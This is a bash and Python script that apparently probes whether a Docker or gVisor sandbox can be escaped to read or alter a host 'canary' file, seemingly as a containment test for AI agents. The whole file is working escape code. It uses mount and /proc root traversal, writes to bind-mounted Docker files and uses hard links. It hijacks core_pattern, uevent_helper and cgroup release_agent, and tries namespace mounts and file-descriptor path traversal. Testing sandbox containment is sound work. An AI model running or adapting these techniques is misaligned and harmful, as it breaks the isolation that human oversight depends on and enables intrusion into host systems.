#!/bin/bash
# Tries to reach the host's files: walks every mount, every root and directory that /proc tells of, and every file of the
# host that is mounted into the sandbox, reads each file with «canary» in its name and writes into it and beside it. Also
# hands the host's own path to what might resolve it out there: links, core dumps, release agents and mounts.
# Success: a canary file of the host is read (its mark is printed), or the directory of the canary has changed.
#   find-the-host.sh DIRECTORY     where the canary lies on the host
canary=$1
took() {
  [ -f "$1" ] || return
  { content=$(<"$1") && echo "READ $1: $content"; } 2>/dev/null
  { echo taken >>"$1" && echo "WROTE $1"; } 2>/dev/null
}

# In /proc and /sys there are no files of the host, but many.
mapfile -t mounts < <(awk '$2 !~ /^\/(proc|sys|dev$|$)/ { print $2 }' /proc/mounts)
for place in "${mounts[@]}" / /proc/[0-9]*/{root,cwd} "$canary"; do
  for name in "$place$canary/canary.txt" "$place/canary.txt" "$place/../canary.txt"; do took "$name"; done
  { echo taken >"$place/planted-by-the-agent"; } 2>/dev/null
done
while IFS= read -r file; do took "$file"; done < <(
  timeout 10 find "${mounts[@]}" /mnt /media /srv /run /var/lib /home /host -maxdepth 3 -name '*canary*' -type f 2>/dev/null
)

# Docker's own files are mounted one by one: a way from one of them to its directory on the host would be enough.
for file in /etc/hosts /etc/hostname /etc/resolv.conf /usr/sbin/docker-init; do
  { echo taken >>"$file" && echo "WROTE $file"; } 2>/dev/null
  ln -f "$file" /tmp/linked 2>/dev/null && took /tmp/linked
  took "$file/../../../..$canary/canary.txt"
done

python3 - "$canary" <<'PYTHON'
import ctypes, glob, os, sys
libc = ctypes.CDLL(None, use_errno=True)
canary = sys.argv[1]
helper = f'{canary}/run-by-the-host'


def write(path, text):
    try:
        with open(path, 'w') as file:
            file.write(text)
        print('WROTE', path)
    except OSError:
        pass


# What a kernel would start outside: only gVisor's own may hear of it.
write('/proc/sys/kernel/core_pattern', f'|/bin/touch {helper}')
write('/sys/kernel/uevent_helper', helper)
for group in glob.glob('/sys/fs/cgroup/*'):
    write(f'{group}/release_agent', helper)
    write(f'{group}/notify_on_release', '1')
# A user namespace would bring the right to mount; an open directory of the host would need no mount at all.
libc.unshare(0x10000000 | 0x00020000)
for source, kind in ((canary, None), ('/dev/fuse', b'fuse'), ('none', b'overlay'), ('none', b'9p')):
    libc.mount(source.encode(), b'/tmp', kind, 4096, b'lowerdir=/,trans=fd,rfdno=4,wfdno=4')
for number in range(3, 40):
    for path in (f'../../../../..{canary}/canary.txt', 'canary.txt'):
        found = libc.openat(number, path.encode(), os.O_RDWR)
        if found >= 0:
            print('OPENED', number, path, os.read(found, 200))
            os.write(found, b'taken')
PYTHON
exit 0
